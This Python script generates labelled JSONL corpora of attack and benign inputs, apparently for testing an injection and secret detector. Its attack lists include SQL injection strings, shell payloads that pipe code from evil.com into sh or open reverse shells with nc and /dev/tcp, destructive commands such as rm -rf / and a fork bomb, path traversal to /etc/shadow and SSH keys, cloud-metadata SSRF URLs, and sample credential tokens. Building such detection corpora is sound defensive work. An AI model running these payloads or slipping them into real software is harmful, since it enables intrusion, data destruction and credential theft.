# Hand-written corpus rows, emitted as JSONL. Run: python3 gen.py (from this directory).
import json

def emit(fname, cat, attacks, benign, field="value"):
    with open(fname, "w") as f:
        for attack, rows in ((True, attacks), (False, benign)):
            for r in rows:
                if field == "value":
                    key, val = r
                    v = {key: val}
                    f.write(json.dumps({"category": cat, "attack": attack, "value": v}) + "\n")
                else:
                    f.write(json.dumps({"kind": cat, "attack": attack, "text": r}) + "\n")

sql_attacks = [
 ("id","1' OR '1'='1"),("username","admin' OR 1=1--"),("q","' OR 'a'='a"),("id","1 OR 1=1"),
 ("user","admin'--"),("name","x'; DROP TABLE users;--"),("id","1; DROP TABLE accounts"),
 ("id","5; DELETE FROM orders"),("search","foo'; INSERT INTO admins VALUES('eve','pw');--"),
 ("id","1 UNION SELECT username, password FROM users"),("q","' UNION SELECT null, null, version()--"),
 ("id","-1 UNION ALL SELECT 1,2,3--"),("filter","x') UNION SELECT table_name FROM information_schema.tables--"),
 ("id","1 AND SLEEP(5)"),("id","1' AND pg_sleep(10)--"),("q","'; WAITFOR DELAY '0:0:5'--"),
 ("id","1) OR SLEEP(3)#"),("id","1 AND BENCHMARK(5000000,MD5(1))"),("user","admin'#"),
 ("user","root' --"),("q","1/**/UNION/**/SELECT/**/password/**/FROM/**/users"),
 ("q","1 UNION/**/SELECT 1,2"),("sort","name; UPDATE users SET role='admin' WHERE id=1"),
 ("id","1; TRUNCATE TABLE logs"),("id","1'; EXEC xp_cmdshell('dir');--"),
 ("email","a@b.c' OR '1'='1' --"),("password","' OR ''='"),("id","1' AND '1'='1"),
 ("q","x' OR 1=1 LIMIT 1 --"),("id","10 or true=true"),("order","1; SHUTDOWN"),
 ("filter","status='a' OR 'x'='x'"),("id","1\" OR \"1\"=\"1"),("q","') OR ('1'='1"),
 ("id","1; ALTER TABLE users ADD admin int"),("q","' UNION SELECT load_file('/etc/passwd')--"),
 ("id","1' AND IF(1=1,SLEEP(5),0)--"),("name","x' or username like '%admin%"),
 ("q","1; CREATE USER hacker IDENTIFIED BY 'x'"),("id","0 UNION SELECT @@version"),
 ("where","1=1; DROP DATABASE prod"),("q","'||pg_sleep(5)--"),
]
sql_benign = [
 ("name","O'Brien"),("name","D'Angelo"),("text","It's a nice day, isn't it?"),
 ("text","Explain the difference between SELECT and UPDATE in SQL."),
 ("query","SELECT id, name FROM users WHERE active = 1"),
 ("query","SELECT a FROM t1 UNION SELECT a FROM t2"),
 ("text","The union selected a new president"),("text","Should we pick option A or B=better?"),
 ("text","a; b"),("text","Read chapter 3; then drop me a note"),("text","Use -- for comments in SQL"),
 ("q","rock 'n' roll -- the best"),("glob","src/**/*.rs"),("css","/* header */ body { margin: 0 }"),
 ("text","He said 'yes' or 'no' was fine"),("text","time.sleep(5) pauses Python"),
 ("text","I need sleep (8 hours)"),("text","Please delete from my calendar the 3pm meeting"),
 ("text","Table drop-down menus; select one"),("comment","Great product!!! 5 stars #happy"),
 ("q","rust OR golang"),("q","cats AND dogs"),("title","Drop Table: a furniture review"),
 ("text","1 or 2 people can attend"),("text","x = 1 or y = 2 in math"),("text","wait for delay notifications"),
 ("sql","-- migration 004\nALTER TABLE users ADD COLUMN bio TEXT;"),("text","Mc'Donald's menu"),
 ("text","Don't forget: 'update' the docs"),("address","12 O'Connell St; Dublin"),
 ("text","Is 1=1 always true?"),("text","The Union select committee met on Monday"),
 ("query","SELECT pg_size_pretty(pg_database_size('app'))"),("text","She's 5' 4\" tall"),
 ("text","Exec summary; update attached"),("code","if (a || b) { sleep_ms(10); }"),
 ("text","Press Ctrl+C; then exit"),("text","We'll insert into the schedule later"),
 ("note","Order #1234 -- shipped"),("text","'quoted' -- dash"),("text","version 1.2 or 1.3=ok"),
 ("hashtag","#sql #database"),
]

shell_attacks = [
 ("filename","report.txt; cat /etc/passwd"),("host","example.com && whoami"),("host","8.8.8.8 | nc attacker.com 4444"),
 ("name","$(curl http://evil.sh/x)"),("name","file`id`"),("dir","; rm -rf /"),("cmd","rm -rf / --no-preserve-root"),
 ("url","http://x.com/a.sh; curl http://evil.com/s | sh"),("cmd","curl -s http://evil.com/install.sh | bash"),
 ("cmd","wget http://evil.com/x -O- | sh"),("arg","nc -e /bin/sh 10.0.0.1 4444"),
 ("arg","rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"),
 ("arg","bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"),("file","x || ls -la /root"),
 ("msg","hello; echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys"),("data","echo hacked > /etc/passwd"),
 ("name","test$(whoami)"),("q","a && sleep 10"),("q","abc | base64 -d | sh"),
 ("path","/tmp/x; chmod 777 /etc/shadow"),("ip","127.0.0.1; ping -c 10 attacker.com"),
 ("ip","1.1.1.1 && nslookup x.attacker.com"),("name","`uname -a`"),("v","x; python -c 'import os'"),
 ("v","a | tee /etc/crontab"),("v","foo;id"),("v","foo && id"),("v","foo | id"),
 ("v","$(cat /etc/shadow)"),("v","x; wget http://evil/x.sh; sh x.sh"),("v",":(){ :|:& };:"),
 ("v","sudo rm -rf ~"),("v","x\ncat /etc/passwd"),("v","dd if=/dev/zero of=/dev/sda"),
 ("v","socat tcp:10.0.0.1:4444 exec:/bin/sh"),("v","python3 -c 'import socket,os,pty;s=socket.socket()'"),
 ("v","ncat 10.0.0.1 4444 -e /bin/bash"),("v","x; printenv"),("v","a || curl http://evil.com"),
 ("v","file.txt & whoami"),("v","name=`cat /etc/hostname`"),("v","x; rm -rf *"),
]
shell_benign = [
 ("prompt","Explain what rm -rf does"),("text","a; b"),("text","Tom | Jerry"),("text","salt & pepper"),
 ("text","Research & development; cat food is cheap"),("text","cats && dogs"),("text","either this || that"),
 ("code","Use `ls -la` to list files"),("text","I love $(money)"),("text","Price: $5 (approx)"),
 ("text","The rm command removes files"),("text","Never run curl | sh from untrusted sites, it is dangerous to do"),
 ("text","Go to the id card office; bring your passport"),("text","Echo chamber effects; social media"),
 ("markdown","| col1 | col2 |\n|------|------|"),("text","5 > 3 and 2 < 4"),("text","Redirect > output"),
 ("text","Q&A session at 5pm"),("name","AT&T"),("text","Read the `sh` manual page"),
 ("text","Pipe | delimited | values"),("text","The sleep study; results pending"),
 ("text","ping me when done"),("text","python is fun; ruby too"),("text","cat: a small animal"),
 ("text","Use && to chain commands in bash"),("text","nc stands for netcat"),("text","the /dev/null device"),
 ("text","mkfifo creates a named pipe"),("text","what does `rm -rf /` do? explain"),
 ("text","Tags: a|b|c"),("text","Hello; world"),("text","Terms & conditions apply; see site"),
 ("text","We ship; then we iterate"),("text","x || y is logical or"),("jq",".items[] | select(.id > 3)"),
 ("text","$(document).ready() in jQuery"),("regex","^(a|b)+$"),("text","Install with: cargo install foo"),
 ("text","The kill switch; a safety feature"),("text","dd/mm/yyyy format"),
]

path_attacks = [
 ("path","../../etc/passwd"),("file","..\\..\\windows\\win.ini"),("path","%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
 ("path","..%2f..%2fetc%2fshadow"),("path","%252e%252e%252fetc"),("path","....//....//etc/passwd"),
 ("file","/etc/passwd"),("file","/etc/shadow"),("path","/root/.ssh/id_rsa"),("path","~/.ssh/id_rsa"),
 ("path","/workspace/../etc/hosts"),("path","docs/../../../secret"),("filename","..%5c..%5cboot.ini"),
 ("path","%2e%2e/%2e%2e/etc/passwd"),("path","/proc/self/environ"),("file","file:///etc/passwd"),
 ("path","/var/run/secrets/kubernetes.io/serviceaccount/token"),("path","C:\\Windows\\System32\\config\\SAM"),
 ("path","/home/other/.aws/credentials"),("path","..%c0%af..%c0%afetc"),("path","%c0%ae%c0%ae/etc/passwd"),
 ("dest","/tmp/outside"),("target","/usr/bin/evil"),("src","/opt/secrets.txt"),("path","/workspace-evil/x"),
 ("file","../.env"),("path",".."),("path","a/b/../../../c"),("dir","/"),("path","%2e%2e%5c%2e%2e%5c"),
 ("value","../../../../etc/passwd"),("url_path","..;/admin"),("path","..%252f..%252fetc"),
 ("path","/etc"),("path","foo/%2e%2e/%2e%2e/%2e%2e/x"),("path","\\\\?\\..\\..\\x"),
 ("file","/var/log/auth.log"),("path","~/.bashrc"),("path","/workspace/../../root"),
 ("template","../../../../proc/self/cmdline"),("v","/etc/shadow"),("path","..\\"),
]
path_benign = [
 ("path","/workspace/src/main.rs"),("path","src/lib.rs"),("path","/workspace/docs/../README.md"),
 ("text","Loading... please wait"),("range","1..10"),("rev","v1.2..v1.3"),("text","wait..."),
 ("file","report..final.txt"),("path","./notes.md"),("text","Ellipsis… and more"),
 ("endpoint","/api/v1/users"),("text","see /etc/hosts for details on configuration files in linux systems"),
 ("path","/workspace/a/b/c"),("path","docs/guide.md"),("route","/users/:id"),("path","/workspace"),
 ("text","go up with cd .. in the shell is what the tutorial covers for beginners in lesson two"),
 ("path","/tmp/scratch/workspace-cache/x"),("q","50%2F50 split"),("path","file%20name.txt"),
 ("text","a/b/c"),("text","Rust range a..=b"),("path","/workspace/.github/workflows/ci.yml"),
 ("path","/workspace/dir..name/x"),("url","https://example.com/a/../b"),("path","..hidden"),
 ("version","1.2.3"),("text","The root / is the top"),("path","/workspace/src/../src/x.rs"),
 ("file","/tmp/scratch/out.txt"),("text","Say /etc/passwd out loud in the talk about unix history, he said"),
 ("path","./a/./b"),("regex",".*\\.rs$"),("json_path","$..book[0]"),("path","~workspace"),
 ("glob","**/*.md"),("text","1...5"),("mime","text/plain"),("date","2024/01/15"),
 ("path","/workspace/a%20b.txt"),("text","Section 2..4 covers it"),
]

ssrf_attacks = [
 ("url","http://127.0.0.1/admin"),("url","http://localhost:8080/"),("url","http://[::1]/"),("url","http://0.0.0.0:22"),
 ("url","http://2130706433/"),("url","http://0x7f000001/"),("url","http://0177.0.0.1/"),("url","http://127.1/"),
 ("url","http://169.254.169.254/latest/meta-data/"),("url","http://metadata.google.internal/computeMetadata/v1/"),
 ("url","http://10.0.0.5/"),("url","https://172.16.3.4/"),("url","http://172.31.255.1"),("url","http://192.168.1.1/router"),
 ("url","http://[fc00::1]/"),("url","http://[fd12:3456::1]:8080/"),("url","http://[fe80::1%25eth0]/"),
 ("url","http://[::ffff:127.0.0.1]/"),("url","http://[::ffff:7f00:1]/"),("url","http://user:pw@127.0.0.1/"),
 ("url","http://evil.com@10.1.1.1/"),("url","HTTP://LOCALHOST/"),("url","http://localhost./"),
 ("url","http://127.0.0.1.nip.io/"),("url","gopher://127.0.0.1:6379/_SET"),("host","127.0.0.1"),
 ("host","169.254.169.254"),("hostname","localhost"),("endpoint","10.0.0.1:9200"),
 ("url","http://0x7f.0x0.0x0.0x1/"),("url","http://017700000001/"),("url","http://0/"),
 ("url","http://[0:0:0:0:0:ffff:127.0.0.1]/"),("url","http://[::]/"),("webhook_url","http://192.168.0.10/hook"),
 ("text","fetch http://169.254.169.254/latest/ please"),("url","http://app.localhost/"),
 ("url","http://100.100.100.200/latest/meta-data"),("url","dict://localhost:11211/stat"),
 ("url","http://3232235777/"),("url","http://0xa9fea9fe/"),("url","http://%31%32%37.0.0.1/"),
]
ssrf_benign = [
 ("url","https://example.com/docs/localhost-setup"),("version","10.2.0.1"),("url","https://api.github.com/repos"),
 ("url","https://8.8.8.8/dns"),("url","http://172.32.0.1/"),("url","http://192.169.1.1/"),
 ("url","https://localhost.example.com/"),("url","https://example.com/?next=http%3A%2F%2F127.0.0.1"),
 ("text","Set up localhost in your hosts file"),("text","The IP 10.0.0.1 is private"),
 ("url","https://docs.rs/metadata/latest"),("url","https://metadata.example.org/"),
 ("url","https://en.wikipedia.org/wiki/127.0.0.1"),("version","127.0.0"),("url","https://1.1.1.1/"),
 ("url","https://[2001:db8::1]/"),("url","https://[2606:4700::1111]/"),("url","https://example.com:8080/a"),
 ("url","https://user@example.com/"),("build","192.168.1"),("url","https://10.com/"),
 ("url","https://127.com/"),("url","https://0x7f000001.example.com/"),("url","https://fc00.example.net/"),
 ("text","use 169.254.169.254 for metadata (docs)"),("url","https://example.com/#localhost"),
 ("url","https://cdn.example.com/192.168.0.1.png"),("host","example.com"),("hostname","db.prod.example.com"),
 ("ip","8.8.4.4"),("url","ftp://ftp.example.org/pub"),("url","https://sub.domain.co.uk/path"),
 ("url","https://example.com/metadata.google.internal"),("sku","0177-001"),("hex","0x7f000001"),
 ("calc","0xFF + 1"),("url","https://1.2.3.4.example.com/"),("url","https://[2001:4860:4860::8888]/"),
 ("url","https://93.184.216.34/"),("url","https://example.com/?ip=10.0.0.1"),("endpoint","/api/v1/health"),
 ("url","https://172.15.0.1/"),
]

secret_attacks = [
 ("k","AKIAIOSFODNN7EXAMPLE"),("token","ghp_abcdefghijklmnopqrstuvwxyz0123456789"),("auth","Bearer abcdefghijklmnopqrstuvwxyz012345"),
 ("key","AIzaSyA1234567890abcdefghijklmnopqrstuv"),("key","sk_live_abcdefghijklmnopqrstuvwx"),
 ("tok","xoxb-1234567890-abcdefghij"),("jwt","eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"),
 ("pem","-----BEGIN RSA PRIVATE KEY-----\nMIIEow..."),("url","https://admin:hunter22@db.example.com/"),
 ("secret","wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY9x"),("api_key","Zk9pQ2xWb3JtZ1h0N3pLcVlmR0RhUzRiM2xuVjhqV2M"),
 ("text","my key is AKIAABCDEFGHIJKLMNOP ok"),("env","STRIPE=sk_live_51HxYzAbCdEfGhIjKlMnOpQr"),
 ("pat","github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVW"),
 ("cfg","aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
 ("t","gho_16C7e42F292c6912E7710c838347Ae178B4a"),("t","xoxp-2222222222-3333333333-abcdef"),
 ("t","ASIAY34FZKBOKMUTVV7A"),("h","Authorization: Bearer ya29.a0AfH6SMBx1234567890abcdefghij"),
 ("k","-----BEGIN OPENSSH PRIVATE KEY-----"),("k","-----BEGIN EC PRIVATE KEY-----\nabc"),
 ("t","rk_live_0123456789abcdefghijklmn"),("dsn","postgres://app:s3cretPass@10.0.0.1/db"),
 ("t","q8Xz3LmN0pRt7VwY2bKc9DfG5hJs1A"),("t","mQ4nR8tV2xZ6bD0fH3jL7pS1uW5yA9cE"),
 ("t","9fK2mP7qR4tV8xZ1bD5gJ3lN6pS0uW2y"),("t","AbC123dEf456GhI789jKl012MnO345pQr"),
 ("n","token: Xy7Zq2Lk9Mn4Bv8Cx1Dz6Fw3Gh5Jt0Rs"),("t","eyJ0eXAiOiJKV1QifQ.eyJleHAiOjE3MDAwMDAwMDB9.c2lnbmF0dXJlLWJ5dGVz"),
 ("t","sk_live_4eC39HqLyjWDarjtT1zdp7dc"),("t","AKIA2OGYBAH6TIFYXX7Q"),("t","ghs_1234567890abcdefABCDEF1234567890abcd"),
 ("t","xoxa-2-1234567890-abcdef"),("t","https://user:Passw0rd!@git.example.com/repo.git"),
 ("t","-----BEGIN PRIVATE KEY-----\nMIIE"),("t","-----BEGIN PGP PRIVATE KEY BLOCK-----"),
 ("t","ghu_aaaaBBBBccccDDDDeeeeFFFFgggg11112222"),("t","AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY"),
 ("t","bearer 0123456789abcdefghijKLMNOPQRSTUV"),("t","Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZg9X"),
 ("t","LS0tLS1CRUdJTiBQVUJMSUMgS0VZLS0tLS0K2"),
]
secret_benign = [
 ("digest","sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),("id","123e4567-e89b-12d3-a456-426614174000"),
 ("commit","a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"),("text","set AWS_SECRET_ACCESS_KEY in your env"),
 ("name","my-service-name-production-eu-west-1"),("path","/tmp/.tmpLtKx0A/workspace/app/config"),
 ("text","Bearer tokens are used for auth"),("text","-----BEGIN PUBLIC KEY-----"),("text","ghp_ is a GitHub token prefix"),
 ("text","AKIA prefix means access key"),("text","sk_test_abcdefghijklmnopqrstuv"),("url","https://user@example.com/"),
 ("text","The password is stored in vault"),("ver","1.2.3-beta.4+build.567"),("md5","d41d8cd98f00b204e9800998ecf8427e"),
 ("text","jwt tokens look like eyJ..."),("class","AbstractSingletonProxyFactoryBean"),("word","supercalifragilisticexpialidocious"),
 ("text","API_KEY=<your-key-here>"),("path","src/components/UserProfileSettingsPanel.tsx"),
 ("text","this_is_a_long_identifier_name_for_testing"),("b64","aGVsbG8gd29ybGQ="),("hash","$2b$12$"),
 ("text","xoxb- is a Slack bot token prefix"),("url","https://example.com/path/to/resource?page=2&sort=asc"),
 ("uuid","550e8400-e29b-41d4-a716-446655440000"),("text","Bearer"),("sha1","da39a3ee5e6b4b0d3255bfef95601890afd80709"),
 ("ts","2024-01-15T10:30:00.000Z"),("text","Rotate your keys every 90 days"),("ulid","01ARZ3NDEKTSV4RRFFQ69G5FAV"),
 ("isbn","978-3-16-148410-0"),("text","token: <redacted>"),("word","pneumonoultramicroscopicsilicovolcanoconiosis"),
 ("snake","get_user_by_email_address_and_tenant_id"),("text","AIza keys are Google API keys"),
 ("sha512","cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e"),
 ("path","/workspace/target/debug/deps/libfoo-3f2a1b4c5d6e7f80.rlib"),("text","user:pass@host is the format"),
 ("text","sk_live_ keys must never be committed"),("cfg","password = ${DB_PASSWORD}"),
]

emit("sql.jsonl","sql",sql_attacks,sql_benign)
emit("shell.jsonl","shell",shell_attacks,shell_benign)
emit("path.jsonl","path",path_attacks,path_benign)
emit("ssrf.jsonl","ssrf",ssrf_attacks,ssrf_benign)
emit("secret.jsonl","secret",secret_attacks,secret_benign)
